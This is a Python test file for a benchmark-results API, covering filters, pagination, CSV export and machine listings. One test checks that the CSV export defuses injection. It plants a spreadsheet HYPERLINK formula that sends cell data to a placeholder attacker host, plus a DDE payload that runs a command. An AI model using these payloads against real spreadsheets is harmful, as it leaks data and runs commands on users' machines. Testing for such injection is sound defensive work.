from __future__ import annotations

import csv
import io

from testkit.factories import Api, machine_spec, result, run_report


def _seed(api: Api) -> tuple[str, str]:
    spec_a, spec_b = machine_spec(), machine_spec()
    a, token_a = api.enroll(spec_a)
    b, token_b = api.enroll(spec_b)
    api.post_run(
        token_a,
        run_report(
            spec_a,
            results=[
                result(batch_size=1, precision="fp32"),
                result(batch_size=8, precision="fp32"),
                result(batch_size=8, precision="bf16"),
                result(workload="bert_base/infer", batch_size=8, precision="bf16"),
                result(
                    device="cpu",
                    runtime="onnxruntime-cpu",
                    batch_size=8,
                    precision="fp32",
                    threads=16,
                    mean_power_w=None,
                    energy_per_sample_j=None,
                    power_source="none",
                ),
            ],
        ),
    )
    api.post_run(token_b, run_report(spec_b, results=[result(batch_size=8, precision="fp16")]))
    return str(a), str(b)


def test_results_filter_by_every_config_key(api: Api) -> None:
    a, b = _seed(api)
    key = api.bearer(api.token("readonly"))

    def count(**params: object) -> int:
        response = api.client.get("/api/v1/results", params=params, headers=key)
        assert response.status_code == 200, response.text
        return int(response.json()["total"])

    assert count() == 6
    assert count(machine_id=a) == 5 and count(machine_id=b) == 1
    assert count(workload="bert_base/infer") == 1
    assert count(runtime="onnxruntime-cpu") == 1
    assert count(precision="bf16") == 2
    assert count(device_kind="cpu") == 1 and count(device_kind="cuda") == 5
    assert count(batch_size=8) == 5
    assert count(machine_id=a, precision="fp32", batch_size=8) == 2


def test_task_is_a_field_of_a_result_and_a_filter(api: Api) -> None:
    spec = machine_spec()
    _machine, token = api.enroll(spec)
    gemm = result(workload="gemm_2048", task=None, batch_size=1, throughput_samples_per_s=10.0, achieved_tflops=250.0)
    assert gemm.task is None
    results = [result(), result(task="train", batch_size=64), result(workload="resnet50/train", batch_size=8), gemm]
    assert api.post_run(token, run_report(spec, results=results)).status_code == 201

    def items(**params: object) -> list[dict[str, object]]:
        response = api.client.get("/api/v1/results", params=params, headers=api.admin)
        assert response.status_code == 200, response.text
        return list(response.json()["items"])

    stored = {(r["workload"], r["task"], r["batch_size"]) for r in items()}
    assert stored == {
        ("resnet50", "infer", 256),
        ("resnet50", "train", 64),
        ("resnet50", "train", 8),
        ("gemm_2048", None, 1),
    }
    assert len(items(workload="resnet50")) == 3
    assert [r["batch_size"] for r in items(workload="resnet50", task="infer")] == [256]
    assert len(items(task="train")) == 2
    assert len(items(workload="resnet50/train")) == 2  # the old spelling still filters
    assert items(workload="gemm_2048")[0]["task"] is None
    clash = api.client.get("/api/v1/results", params={"workload": "resnet50/train", "task": "infer"}, headers=api.admin)
    assert clash.status_code == 422


def test_results_paginate_without_overlap(api: Api) -> None:
    _seed(api)
    pages = [
        api.client.get("/api/v1/results", params={"limit": 4, "offset": offset}, headers=api.admin).json()
        for offset in (0, 4)
    ]
    ids = [item["id"] for page in pages for item in page["items"]]
    assert len(ids) == 6 == len(set(ids))
    assert pages[0]["total"] == 6 and pages[0]["limit"] == 4


def test_page_size_is_bounded(api: Api) -> None:
    assert api.client.get("/api/v1/results", params={"limit": 100_000}, headers=api.admin).status_code == 422


def test_results_export_as_csv(api: Api) -> None:
    _seed(api)
    response = api.client.get("/api/v1/results/export.csv", params={"precision": "bf16"}, headers=api.admin)
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert len(rows) == 2
    assert {(r["workload"], r["task"]) for r in rows} == {("resnet50", "infer"), ("bert_base", "infer")}
    assert rows[0]["device_kind"] == "cuda" and float(rows[0]["latency_p99_ms"]) > 0


def test_csv_export_neutralises_spreadsheet_formulas(api: Api) -> None:
    """OWASP CSV injection: a machine names itself; a spreadsheet must show the name, not run it."""
    formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    spec = machine_spec(hostname=formula)
    _machine_id, token = api.enroll(spec)
    failed = [
        result(batch_size=b, status="error", reason=reason, throughput_samples_per_s=None, latency_p50_ms=None)
        for b, reason in ((2, "@SUM(1+1)*cmd|' /C calc'!A0"), (4, "+1+1"), (8, "-2+3"), (16, "\t=1"), (32, "\r=1"))
    ]
    api.post_run(token, run_report(spec, results=[result(batch_size=1), *failed]))
    response = api.client.get("/api/v1/results/export.csv", headers=api.admin)
    rows = {int(r["batch_size"]): r for r in csv.DictReader(io.StringIO(response.text))}
    assert {r["hostname"] for r in rows.values()} == {"'" + formula}
    assert [rows[b]["reason"] for b in (2, 4, 8, 16, 32)] == [
        "'@SUM(1+1)*cmd|' /C calc'!A0",
        "'+1+1",
        "'-2+3",
        "'\t=1",
        "'\r=1",
    ]
    assert float(rows[1]["latency_p99_ms"]) == 29.6 and rows[1]["reason"] == ""  # numbers stay numbers


def test_machines_list_and_detail_carry_the_spec(api: Api) -> None:
    a, _b = _seed(api)
    listing = api.client.get("/api/v1/machines", headers=api.admin).json()
    assert listing["total"] == 2
    assert {m["status"] for m in listing["items"]} == {"online"}
    detail = api.client.get(f"/api/v1/machines/{a}", headers=api.admin).json()
    assert detail["spec"]["devices"][1]["catalog_id"] == "h100-sxm5-80gb"
    assert detail["labels"]["gpu"] == "h100-sxm5-80gb"
    missing = api.client.get("/api/v1/machines/00000000-0000-0000-0000-000000000000", headers=api.admin)
    assert missing.status_code == 404


def test_openapi_is_served(api: Api) -> None:
    spec = api.client.get("/openapi.json").json()
    assert "/api/v1/runs" in spec["paths"]
    assert spec["paths"]["/api/v1/runs"]["post"]["operationId"] == "runs-post_run"
    assert api.client.get("/docs").status_code == 200
